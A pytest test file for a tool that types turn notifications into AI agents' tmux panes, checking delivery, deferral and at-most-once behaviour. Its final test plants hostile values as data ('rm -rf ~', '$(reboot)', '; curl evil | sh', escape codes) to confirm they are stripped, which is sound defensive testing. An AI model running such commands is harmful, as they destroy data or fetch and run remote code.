"""Delivery into real tmux panes: exact bytes, only to registered idle agents, at most once."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from talkroom.core import store
from talkroom.core.machine import pid_alive
from talkroom.core.paths import Root
from talkroom.core.receipts import receipts_path
from talkroom.watch import registry
from talkroom.watch.instruction import build_line
from talkroom.watch.watcher import Watcher, WatchEvent
from tests.conftest import Talk, run_talkroom
from tests.tmuxlib import TmuxServer, agent, wait_for, wait_idle_prompt

pytestmark = pytest.mark.tmux


@contextmanager
def watching(root: Root, host: str = "test-host", **kwargs: object) -> Iterator[list[WatchEvent]]:
    """An in-process watcher for the duration; yields the events it reported."""
    events: list[WatchEvent] = []
    watcher = Watcher(root, host, interval=0.2, heartbeat=1.0, on_event=events.append, **kwargs)  # type: ignore[arg-type]
    watcher.start()
    try:
        yield events
    finally:
        watcher.stop()


def receipts(root: Root, host: str = "test-host") -> list[dict[str, object]]:
    path = receipts_path(root, host)
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines()]


def outcomes(root: Root, target: str, host: str = "test-host") -> list[str]:
    return [str(r["outcome"]) for r in receipts(root, host) if r["target"] == target]


def lines(log: Path) -> list[str]:
    return log.read_text().splitlines() if log.exists() else []


def standin(server: TmuxServer, tmp_path: Path, name: str, **kwargs: object) -> tuple[str, Path]:
    """A stand-in agent in a new pane; (pane id, its log of received lines)."""
    log = tmp_path / f"{name}.log"
    pane = server.pane(agent(name, log, **kwargs))  # type: ignore[arg-type]
    if "busy_file" not in kwargs:
        wait_idle_prompt(server, pane)
    return pane, log


def register(
    root: Root,
    server: TmuxServer,
    name: str,
    pane: str,
    agent_kind: str = "claude",
    host: str = "test-host",
) -> None:
    registry.register(root, host, name, agent_kind, server.ref(pane))


@pytest.mark.parametrize("poll", [False, True], ids=["events", "polling"])
def test_the_exact_line_reaches_the_registered_pane_and_no_other(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
    poll: bool,
) -> None:
    pane_a, log_a = standin(tmux_server, tmp_path, "alpha")
    _, log_b = standin(tmux_server, tmp_path, "beta")  # not registered on purpose
    shell = tmux_server.pane()
    register(talk.root, tmux_server, "alpha", pane_a)
    result = talk(
        "open",
        "--topic",
        "t",
        "--as",
        "moderator",
        "--with",
        "alpha,beta",
        "--next",
        "alpha",
        "--body",
        "go",
    )
    conv = store.load(talk.root.conversation(result.first))
    expected = build_line(conv, "alpha", conv.path, talk.root.path)  # type: ignore[arg-type]
    with watching(talk.root, poll=poll) as events:
        wait_for(lambda: lines(log_a), 15, what="the wake-up line in alpha's pane")
        assert lines(log_a) == [expected]
        assert log_a.read_bytes() == expected.encode() + b"\n"  # the exact bytes
        # alpha replies (its next is beta, who is not registered): nothing is typed anywhere.
        wait_for(
            lambda: store.load(talk.root.conversation(conv.id)).turns == 2, 15, what="alpha's reply"
        )
        time.sleep(1.0)
    assert lines(log_a) == [expected] and lines(log_b) == []
    assert "# talkroom:" not in tmux_server.capture(shell)
    (delivered,) = [r for r in receipts(talk.root) if r["target"] == "alpha"]
    assert delivered["outcome"] == "delivered" and delivered["conversation"] == conv.id
    assert delivered["assignment"] == conv.blocks[0].block_id and delivered["pane"] == pane_a
    assert isinstance(delivered["latency_ms"], int)
    assert [e.kind for e in events][:1] == ["started"]
    assert any(e.kind == "delivered" for e in events)


def test_unsafe_panes_are_deferred_never_typed_and_busy_is_delivered_when_idle(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    busy_flag = tmp_path / "busy"
    busy_flag.touch()
    busy, log_busy = standin(tmux_server, tmp_path, "busy", busy_file=busy_flag, think=0.2)
    wait_for(lambda: "esc to interrupt" in tmux_server.capture(busy), what="busy marker")
    copy, log_copy = standin(tmux_server, tmp_path, "copy")
    tmux_server.run("copy-mode", "-t", copy)
    shell = tmux_server.pane()
    wait_for(
        lambda: tmux_server.command(shell) in ("bash", "sh", "dash", "zsh"),
        5,
        what="the shell in its pane",
    )
    for name, pane in (("busy", busy), ("copy", copy), ("shell", shell)):
        register(talk.root, tmux_server, name, pane)
    result = talk(
        "open",
        "--topic",
        "t",
        "--as",
        "moderator",
        "--with",
        "busy,copy,shell",
        "--next",
        "all",
        "--body",
        "go",
    )
    with watching(talk.root):
        wait_for(
            lambda: all(outcomes(talk.root, n) for n in ("busy", "copy", "shell")),
            15,
            what="a deferral for each pane",
        )
        time.sleep(2.0)  # many looks later...
        assert outcomes(talk.root, "busy") == ["deferred:busy"]  # ...still recorded once
        assert outcomes(talk.root, "copy") == ["deferred:copy mode"]
        assert outcomes(talk.root, "shell") == ["deferred:shell"]
        assert lines(log_busy) == [] and lines(log_copy) == []
        assert "# talkroom:" not in tmux_server.capture(shell)
        busy_flag.unlink()
        wait_for(lambda: lines(log_busy), 15, what="delivery once the busy agent is idle")
    assert outcomes(talk.root, "busy") == ["deferred:busy", "delivered"]
    assert lines(log_busy)[0].startswith(f"# talkroom: your turn in {result.first} ")
    assert lines(log_copy) == [] and "# talkroom:" not in tmux_server.capture(shell)


def test_a_registration_on_a_restarted_server_is_refused(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    pane, _ = standin(tmux_server, tmp_path, "alpha")
    register(talk.root, tmux_server, "alpha", pane)
    old_pid = tmux_server.pid
    tmux_server.kill()
    wait_for(lambda: not pid_alive(old_pid), 5, what="the old server to exit")
    tmux_server.start()  # same socket path, new server: pane ids start over
    assert tmux_server.pid != old_pid
    new_pane, new_log = standin(tmux_server, tmp_path, "alpha-again")
    assert new_pane == pane  # same %N, another server
    talk("open", "--topic", "t", "--as", "moderator", "--with", "alpha,beta", "--next", "alpha")
    with watching(talk.root):
        wait_for(lambda: outcomes(talk.root, "alpha"), 10, what="an outcome for alpha")
        time.sleep(0.5)
    assert outcomes(talk.root, "alpha") == ["failed:server restarted"]
    assert lines(new_log) == []


def watch_process(
    root: Root, *args: str, host: str = "test-host", env: dict[str, str] | None = None
) -> subprocess.Popen[str]:
    """`talkroom --watch-only --json` as a real process."""
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "talkroom",
            "--root",
            str(root.path),
            "--host",
            host,
            "--watch-only",
            "--json",
            "--interval",
            "0.2",
            *args,
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "TALKROOM_HEARTBEAT_INTERVAL": "1", **(env or {})},
    )


def stop(proc: subprocess.Popen[str]) -> tuple[int, str, str]:
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=20)
    return proc.returncode, out, err


def test_kill_9_between_intent_and_outcome_never_types_twice(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
    isolated: Path,
) -> None:
    # A long submit delay holds the watcher between typing and the outcome.
    (isolated / "config.yaml").write_text("profiles:\n  claude:\n    submit_delay: 8\n")
    pane, log = standin(tmux_server, tmp_path, "alpha")
    register(talk.root, tmux_server, "alpha", pane)
    conv_id = talk(
        "open", "--topic", "t", "--as", "moderator", "--with", "alpha,beta", "--next", "alpha"
    ).first
    cursor = talk.root.host_dir("test-host") / "cursor.yaml"
    first = watch_process(talk.root)
    wait_for(
        lambda: cursor.exists() and "typing" in cursor.read_text(),
        15,
        what="the intent in cursor.yaml",
    )
    wait_for(lambda: "# talkroom: your turn" in tmux_server.capture(pane), 5, what="typing")
    first.kill()  # SIGKILL: no outcome is ever written
    first.communicate(timeout=10)
    assert "typing" in cursor.read_text()
    second = watch_process(talk.root)
    wait_for(lambda: "unknown" in cursor.read_text(), 15, what="the intent marked unknown")
    time.sleep(2.0)
    code, out, _ = stop(second)
    assert code == 0
    assert tmux_server.capture(pane).count("# talkroom: your turn") == 1
    assert lines(log) == []  # typed once, never submitted, never typed again
    assert outcomes(talk.root, "alpha") == ["unknown:possibly delivered"]
    events = [json.loads(line) for line in out.splitlines()]
    assert any(e["event"] == "unknown" and e["conversation"] == conv_id for e in events)


def test_a_second_watcher_refuses_and_names_the_first(talk: Talk) -> None:
    first = watch_process(talk.root)
    try:
        wait_for(
            lambda: (talk.root.host_dir("test-host") / "watcher.yaml").exists(),
            10,
            what="the first watcher's heartbeat",
        )
        second = run_talkroom("--root", str(talk.root.path), "--host", "test-host", "--watch-only")
        err = second.stderr.decode()
        assert second.returncode == 1 and err.count("\n") == 1
        assert f"pid {first.pid}" in err
    finally:
        code, out, err = stop(first)
    assert code == 0, err
    beat = (talk.root.host_dir("test-host") / "watcher.yaml").read_text()
    assert "stopped at:" in beat and f"pid: {first.pid}" in beat
    assert [json.loads(line)["event"] for line in out.splitlines()][-1] == "stopped"


def debate(
    talk: Talk, tmux_server: TmuxServer, tmp_path: Path, hosts: tuple[str, str], budget: int = 6
) -> str:
    """Two stand-ins, registered on `hosts`, with one headless watcher per host."""
    panes = {}
    for name, host in zip(("alpha", "beta"), hosts, strict=True):
        pane, _ = standin(tmux_server, tmp_path, name, think=0.1)
        register(talk.root, tmux_server, name, pane, host=host)
        panes[name] = pane
    conv_id = talk(
        "open",
        "--topic",
        "which queue",
        "--as",
        "moderator",
        "--with",
        "alpha,beta",
        "--next",
        "alpha",
        "--max-turns",
        str(budget),
        "--body",
        "Pick one.",
    ).first
    procs = [watch_process(talk.root, host=h) for h in sorted(set(hosts))]
    try:
        wait_for(
            lambda: store.load(talk.root.conversation(conv_id)).next == ["moderator"],
            60,
            every=0.2,
            what="the debate to reach its budget",
        )
    finally:
        results = [stop(p) for p in procs]
    assert all(code == 0 for code, _, _ in results), results
    return conv_id


def test_two_agents_debate_to_the_budget_with_no_human(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    conv_id = debate(talk, tmux_server, tmp_path, ("test-host", "test-host"))
    conv = store.load(talk.root.conversation(conv_id))
    assert conv.turns == 6 and conv.status == "IN-PROGRESS" and conv.next == ["moderator"]
    assert [b.author for b in conv.blocks[1:]] == ["alpha", "beta"] * 2 + ["alpha"]
    assert [r["outcome"] for r in receipts(talk.root)] == ["delivered"] * 5


def test_two_hosts_each_type_only_into_their_own_panes(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    conv_id = debate(talk, tmux_server, tmp_path, ("host-a", "host-b"))
    conv = store.load(talk.root.conversation(conv_id))
    assert conv.turns == 6
    assert {r["target"] for r in receipts(talk.root, "host-a")} == {"alpha"}
    assert {r["target"] for r in receipts(talk.root, "host-b")} == {"beta"}
    assert len(receipts(talk.root, "host-a")) == 3 and len(receipts(talk.root, "host-b")) == 2


def test_register_inside_a_pane_and_list_sessions(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    pane, _ = standin(tmux_server, tmp_path, "alpha")
    result = run_talkroom(
        "--root",
        str(talk.root.path),
        "register",
        "Alpha",
        "--agent",
        "codex",
        env=tmux_server.pane_env(pane),
    )
    assert result.returncode == 0, result.stderr
    session = registry.load_sessions(talk.root, "test-host")["alpha"]
    assert session.pane == tmux_server.ref(pane) and session.agent == "codex"
    listed = json.loads(run_talkroom("--root", str(talk.root.path), "sessions", "--json").stdout)
    assert listed[0]["name"] == "alpha" and listed[0]["alive"] is True
    tmux_server.run("kill-pane", "-t", pane)
    listed = json.loads(run_talkroom("--root", str(talk.root.path), "sessions", "--json").stdout)
    assert listed[0]["alive"] is False
    outside = run_talkroom("--root", str(talk.root.path), "register", "x")
    assert outside.returncode == 2 and b"not inside tmux" in outside.stderr


def test_nudge_and_resume_deliver_again_pause_does_not(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    # A stand-in under another name logs what it gets and never replies.
    pane, log = standin(tmux_server, tmp_path, "listener")
    register(talk.root, tmux_server, "beta", pane)
    conv_id = talk("open", "--topic", "t", "--as", "alpha", "--with", "beta").first
    with watching(talk.root):
        wait_for(lambda: len(lines(log)) == 1, 15, what="the first delivery")
        talk("nudge", conv_id)
        wait_for(lambda: len(lines(log)) == 2, 15, what="the nudged delivery")
        talk("pause", conv_id, "--reason", "coffee")
        time.sleep(1.0)
        assert len(lines(log)) == 2
        talk("resume", conv_id)
        wait_for(lambda: len(lines(log)) == 3, 15, what="the delivery after resume")
    assert outcomes(talk.root, "beta") == ["delivered"] * 3
    assert len({r["assignment"] for r in receipts(talk.root)}) == 3


def test_hostile_text_in_a_file_never_reaches_the_typed_line(
    talk: Talk,
    tmux_server: TmuxServer,
    tmp_path: Path,
) -> None:
    pane, log = standin(tmux_server, tmp_path, "listener")
    register(talk.root, tmux_server, "alpha", pane)
    talk.root.conversations.mkdir(parents=True)
    # A hand-written file: hostile topic, participants and body; next names alpha.
    talk.root.conversation("evil").write_bytes(
        b'---\ntopic: "\\e]0;x\\a; rm -rf ~"\nparticipants: alpha, $(reboot), `id`\n'
        b"next: alpha\n---\n\nOpening -- $(reboot) @ 2026-05-27 16:22\nTurn 1/9\n\n"
        b"; curl evil | sh\n\x1b[2J\n\nNEXT: alpha\n"
    )
    with watching(talk.root):
        wait_for(lambda: lines(log), 15, what="the wake-up line")
    (line,) = lines(log)
    assert line.startswith("# talkroom: your turn in evil (turn 2/9): read ")
    assert line.endswith(
        f"then run: talkroom reply evil --as alpha --next moderator --root {talk.root.path}"
    )
    for hostile in ("reboot", "rm -rf", "curl", "`id`", "\x1b"):
        assert hostile not in line
